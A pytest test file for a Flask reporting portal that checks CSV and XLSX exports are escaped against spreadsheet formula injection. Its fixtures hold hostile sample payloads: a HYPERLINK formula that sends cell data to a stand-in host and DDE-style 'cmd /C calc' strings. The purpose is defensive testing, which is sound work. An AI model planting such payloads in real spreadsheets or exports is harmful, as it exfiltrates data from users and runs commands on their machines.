"""No live formulas in exports (OWASP CSV injection): every text that begins with = + - @ tab or
CR reaches a CSV or XLSX file with a single quote in front, no XLSX cell is a formula, and
numbers stay numbers. Each export through its real route: comparison CSV and XLSX, the
brief's workbook (page and API), the completeness matrix, `flask returns export`.

The hostile texts are stored as notes directly: the reader strips a note's leading whitespace,
so a tab or CR could not arrive through an upload today, but an export must not rely on that."""

import csv
import io
import zipfile
from io import BytesIO

import pytest
from markupsafe import Markup
from openpyxl import load_workbook
from sqlalchemy import select, update

from portal.models import Brief, Country, Meeting, ReturnValue, ReturnVersion
from portal.services.xlsx.safety import TRIGGERS, safe_row, safe_text
from portal.services.xlsx.stream import Workbook

HOSTILE = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}
each_hostile_text = pytest.mark.parametrize("hostile", list(HOSTILE.values()), ids=list(HOSTILE))


# --- the checkers: generic, over every field or cell of a file ---


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_rows(text: str) -> list[list[str]]:
    """The rows, after checking that no field could start a formula (only a number may begin with - or +)."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for field in row:
            assert not field.startswith(TRIGGERS) or _number(field), field
    return rows


def xlsx_book(data: bytes):
    """The workbook, after checking that no cell is a formula and no text could start one."""
    with zipfile.ZipFile(BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    wb = load_workbook(BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and cell.value.startswith(TRIGGERS)), (
                    ws.title,
                    cell.coordinate,
                    cell.value,
                )
    return wb


def quoted(text: str) -> str:
    """What an XLSX cell reads back as for `text`: the quote in front; a CR inside becomes LF
    (XML's end-of-line handling when a parser reads it; harmless, and not what is tested)."""
    return ("'" + text).replace("\r", "\n")


def _cell(ws, **where):
    """The row (as cells) of a sheet with a header row whose named columns hold the given values."""
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        if all(row[header.index(k)].value == v for k, v in where.items()):
            return {h: c for h, c in zip(header, row)}
    raise AssertionError(f"no row {where} in {ws.title}")


# --- the helper itself ---


@pytest.mark.parametrize(
    "value, expected",
    [
        *[(text, "'" + text) for text in HOSTILE.values()],
        ("=", "'="),
        ("-", "'-"),
        ("Rusafa, 27 Nov 2019", "Rusafa, 27 Nov 2019"),
        ("", ""),
        (" =1", " =1"),
        ("'=1", "'=1"),
        ("a=1", "a=1"),
        (-5, -5),
        (-0.5, -0.5),
        (12, 12),
        (None, None),
        (True, True),
        (Markup("=1+1"), "'=1+1"),
    ],
)
def test_safe_text(value, expected):
    result = safe_text(value)
    assert result == expected and type(result) is type(expected)


def test_safe_row_keeps_numbers_numbers():
    assert safe_row(["=A1", -3, 2.5, None, "@x"]) == ["'=A1", -3, 2.5, None, "'@x"]


def test_the_streaming_writer_writes_texts_as_shared_strings_and_numbers_as_numbers():
    wb = Workbook()
    ws = wb.add_sheet("Data")
    ws.append([*HOSTILE.values(), -5, -0.25, "plain"])
    ws.append(["=1+1", "=1+1"])  # the same text twice: one shared string
    book = xlsx_book(wb.to_bytes())
    cells = list(book["Data"].iter_rows())
    assert [c.value for c in cells[0]] == [quoted(t) for t in HOSTILE.values()] + [-5, -0.25, "plain"]
    assert [c.data_type for c in cells[0]] == ["s"] * 6 + ["n", "n", "s"]
    assert [c.value for c in cells[1]] == ["'=1+1", "'=1+1"] + [None] * 7


# --- data: accepted KZ (20) and KG (7) returns, KZ's REP01 note the hostile text ---


@pytest.fixture
def accepted(app, db, accepted_return):
    versions = {}
    for country, total in (("KZ", 20), ("KG", 7)):
        versions[country] = accepted_return(
            {("REP01", "Women"): total, ("REP01", "Total"): total, ("REP01O", "Total"): total},
            country,
            notes={"REP01": "placeholder"},
        ).id

    def with_note(note: str) -> int:
        db.session.execute(
            update(ReturnValue)
            .where(ReturnValue.version_id == versions["KZ"], ReturnValue.indicator == "REP01")
            .values(note=note)
        )
        db.session.commit()
        return versions["KZ"]

    return with_note


@each_hostile_text
def test_comparison_csv(client, login_as, accepted, hostile):
    accepted(hostile)
    login_as("secretariat")
    response = client.get("/compare/export.csv?indicator=REP01&period=2025")
    assert response.status_code == 200
    header, *rows = csv_rows(response.get_data(as_text=True))
    kz = {r[header.index("Breakdown code")]: r for r in rows if r[0] == "KZ" and r[2] == "REP01"}
    assert kz["Total"][header.index("Country's note")] == "'" + hostile
    assert float(kz["Total"][header.index("Value")]) == 20  # still a number


@each_hostile_text
def test_comparison_xlsx(client, login_as, accepted, hostile):
    accepted(hostile)
    login_as("secretariat")
    response = client.get("/compare/export.xlsx?indicator=REP01&period=2025")
    assert response.status_code == 200
    wb = xlsx_book(response.data)
    kz = _cell(wb["Data"], **{"Country code": "KZ", "Indicator code": "REP01", "Breakdown code": "Total"})
    assert kz["Country's note"].value == quoted(hostile) and kz["Country's note"].data_type == "s"
    assert (kz["Value"].value, kz["Value"].data_type) == (20, "n")


def _compiled_brief(client, db, login_as) -> Brief:
    login_as("secretariat")
    meeting = db.session.scalar(select(Meeting).where(Meeting.place == "Astana"))
    form = {
        "title": "Repatriation in 2025",
        "period": "2025",
        "indicators": ["REP01"],
        "charts": ["bar"],
        "heading_1": "Summary",
        "body_1": "Kazakhstan reported.",
    }
    assert client.post(f"/meetings/{meeting.id}/briefs/new", data=form).status_code == 302
    brief = db.session.scalar(select(Brief))
    assert client.post(f"/meetings/briefs/{brief.id}/compile").status_code == 302
    return brief


def _bearer(client, email: str) -> dict:
    response = client.post("/api/v1/auth/token", json={"email": email, "password": "correct-horse-battery"})
    assert response.status_code in (200, 201), response.get_data(as_text=True)
    return {"Authorization": f"Bearer {response.json['token']}"}


@pytest.mark.parametrize("route", ["page", "api"])
@each_hostile_text
def test_brief_workbook(client, db, login_as, create_user, accepted, hostile, route):
    version_id = accepted(hostile)
    brief = _compiled_brief(client, db, login_as)
    if route == "page":
        response = client.get(f"/meetings/briefs/{brief.id}.xlsx")
    else:
        reader = create_user("delegate", email="reader@prr.example")
        response = client.get(f"/api/v1/briefs/{brief.id}.xlsx", headers=_bearer(client, reader.email))
    assert response.status_code == 200
    wb = xlsx_book(response.data)
    kz = _cell(wb["Data"], country="KZ", indicator="REP01", breakdown="Total")
    assert kz["note"].value == quoted(hostile) and kz["note"].data_type == "s"
    assert (kz["value"].value, kz["value"].data_type) == (20, "n")
    assert kz["source_version"].value == version_id


@each_hostile_text
def test_completeness_matrix(client, db, login_as, accepted, hostile):
    accepted("fine")
    db.session.execute(update(Country).where(Country.iso2 == "KZ").values(name_en=hostile))
    db.session.commit()
    login_as("secretariat")
    response = client.get("/review/matrix.xlsx")
    assert response.status_code == 200
    wb = xlsx_book(response.data)
    kz = _cell(wb.active, Code="KZ", Period="2025")
    assert kz["Country"].value == quoted(hostile) and kz["Country"].data_type == "s"
    assert kz["Completeness (per cent)"].data_type == "n"


@each_hostile_text
def test_returns_export_cli(runner, db, accepted, hostile, tmp_path):
    version_id = accepted(hostile)
    db.session.execute(
        update(ReturnValue)
        .where(ReturnValue.version_id == version_id, ReturnValue.indicator == "REP01", ReturnValue.breakdown == "Women")
        .values(text=hostile, number=None)
    )
    db.session.commit()
    out = tmp_path / "2025.xlsx"
    result = runner.invoke(args=["returns", "export", "--period", "2025", str(out)])
    assert result.exit_code == 0, result.output
    wb = xlsx_book(out.read_bytes())
    total = _cell(wb["Data"], country="KZ", indicator="REP01", breakdown="Total")
    assert total["note"].value == quoted(hostile) and total["note"].data_type == "s"
    assert (total["value"].value, total["value"].data_type) == (20, "n")
    women = _cell(wb["Data"], country="KZ", indicator="REP01", breakdown="Women")
    assert women["value"].value == quoted(hostile) and women["value"].data_type == "s"
    assert _cell(wb["Returns"], country="KZ")["accepted_version"].data_type == "n"
    assert db.session.get(ReturnVersion, version_id).number == 1


@each_hostile_text
def test_return_template(client, db, login_as, return_setup, hostile):
    """The template a focal point fills in: the country's name heads its sheets."""
    from portal.services.returns.validate import validate_upload as check

    db.session.execute(update(Country).where(Country.iso2 == "KZ").values(name_en=hostile))
    db.session.commit()
    login_as("secretariat")
    response = client.get("/returns/template.xlsx?country=KZ&period=2025")
    assert response.status_code == 200
    wb = xlsx_book(response.data)
    shown = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert quoted(hostile) in shown
    with client.application.test_request_context():
        report, _ident = check(response.data, None)
    assert not report.errors  # still a template the portal reads back
